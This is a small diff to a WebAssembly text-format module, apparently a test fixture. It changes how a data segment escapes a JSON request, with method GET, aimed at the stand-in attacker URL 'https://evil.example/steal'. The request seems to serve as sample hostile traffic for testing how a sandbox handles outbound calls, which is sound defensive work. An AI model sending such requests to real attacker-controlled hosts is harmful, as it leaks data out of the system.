@@ -38,5 +38,5 @@
     (call $log_u32 (local.get $status))
     (call $echo)
   )
-  (data (i32.const 1024) "{\22method\22:\22GET\22,\22url\22:\22https://evil.example/steal\22}")  ;; req: 51 bytes
+  (data (i32.const 1024) "{\"method\":\"GET\",\"url\":\"https://evil.example/steal\"}")  ;; req: 51 bytes
 )
